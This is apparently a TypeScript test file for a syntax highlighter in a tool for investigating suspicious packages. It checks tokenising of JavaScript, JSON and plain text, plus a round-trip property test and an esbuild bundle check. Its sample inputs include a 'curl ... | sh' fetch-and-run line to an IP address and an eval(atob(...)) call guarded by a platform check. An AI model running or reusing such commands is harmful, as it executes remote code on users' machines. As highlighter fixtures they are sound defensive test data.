import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { build } from 'esbuild';
import fc from 'fast-check';
import { languageFor, tokenize } from '../../../../src/editor/model/investigate/highlight';

const join = (tokens: { text: string }[]) => tokens.map((t) => t.text).join('');
const kindsOf = (code: string, language: 'js' | 'json' | 'text') => tokenize(code, language).filter((t) => t.kind !== 'plain').map((t) => `${t.kind}:${t.text}`);

test('JavaScript is split into the kinds the page colours', () => {
  assert.deepEqual(kindsOf('const u = `https://${host}/x`; // beacon', 'js'), [
    'keyword:const', 'operator:=', 'string:`https://', 'punctuation:${', 'punctuation:}', 'string:/x`', 'punctuation:;', 'comment:// beacon',
  ]);
  assert.deepEqual(kindsOf('if (/^win/i.test(os.platform())) eval(atob("ZXZhbA=="), 0x1f, true)', 'js'), [
    'keyword:if', 'punctuation:(', 'regex:/^win/i', 'punctuation:.', 'function:test', 'punctuation:(', 'punctuation:.', 'function:platform',
    'punctuation:()))', 'function:eval', 'punctuation:(', 'function:atob', 'punctuation:(', 'string:"ZXZhbA=="', 'punctuation:),', 'number:0x1f',
    'punctuation:,', 'boolean:true', 'punctuation:)',
  ]);
  // Code inside an interpolation is code again, not string: `host` stays plain.
  assert.equal(tokenize('`a${host}b`', 'js').find((t) => t.text === 'host')?.kind, 'plain');
});

test('JSON properties, strings, literals and package.json scripts', () => {
  assert.deepEqual(kindsOf('{"scripts": {"postinstall": "node x.js"}, "n": null, "ok": false, "v": 1.5}', 'json'), [
    'punctuation:{', 'property:"scripts"', 'operator::', 'punctuation:{', 'property:"postinstall"', 'operator::', 'string:"node x.js"', 'punctuation:},',
    'property:"n"', 'operator::', 'keyword:null', 'punctuation:,', 'property:"ok"', 'operator::', 'boolean:false', 'punctuation:,', 'property:"v"', 'operator::',
    'number:1.5', 'punctuation:}',
  ]);
});

test('text is one plain token; empty input is no tokens', () => {
  assert.deepEqual(tokenize('curl -s http://198.51.100.7/x | sh', 'text'), [{ text: 'curl -s http://198.51.100.7/x | sh', kind: 'plain' }]);
  assert.deepEqual(tokenize('', 'js'), []);
});

test('the tokens always put the input back together exactly, whatever the input', () => {
  const pieces = fc.constantFrom('`', '${', '}', '"', "'", '/', '*', '//', '\n', '\r\n', '\\', 'eval', '(', ')', ' ', '0x1F', 'true', '\u202e', '\u0000', '😀', 'a', '=>', '</script>', ':');
  const code = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.array(pieces, { maxLength: 60 }).map((a) => a.join('')));
  fc.assert(
    fc.property(code, fc.constantFrom('js' as const, 'json' as const, 'text' as const), (text, language) => {
      const tokens = tokenize(text, language);
      assert.equal(join(tokens), text);
      assert.ok(tokens.every((t) => t.text.length > 0));
    }),
    { numRuns: 500 },
  );
});

test('languageFor picks the grammar by extension', () => {
  assert.deepEqual(
    ['index.js', 'a.cjs', 'b.mjs', 'c.JSX', 'd.ts', 'e.tsx', 'package.json', 'binding.gyp', 'install.sh', 'README', 'x.json.txt'].map(languageFor),
    ['js', 'js', 'js', 'js', 'js', 'js', 'json', 'text', 'text', 'text', 'text'],
  );
});

test('bundled by esbuild for Node, it tokenises and leaves no Prism global behind', async () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'takedown-prism-'));
  try {
    const entry = path.join(dir, 'entry.ts');
    const module = path.join(__dirname, '../../../../src/editor/model/investigate/highlight.ts').replace(/\\/g, '/');
    writeFileSync(entry, `import { tokenize } from '${module}';\nconsole.log(JSON.stringify({ kinds: tokenize('{"a": eval}', 'json').map((t) => t.kind), js: tokenize('new Function(x)', 'js').map((t) => t.kind), global: typeof (globalThis as any).Prism, window: typeof (globalThis as any).window }));\n`);
    const out = path.join(dir, 'out.js');
    await build({ entryPoints: [entry], bundle: true, platform: 'node', format: 'cjs', outfile: out, logLevel: 'silent' });
    const printed = JSON.parse(execFileSync(process.execPath, [out], { encoding: 'utf8' })) as { kinds: string[]; js: string[]; global: string; window: string };
    assert.deepEqual(printed, { kinds: ['punctuation', 'property', 'operator', 'plain', 'punctuation'], js: ['keyword', 'plain', 'builtin', 'punctuation', 'plain', 'punctuation'], global: 'undefined', window: 'undefined' });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
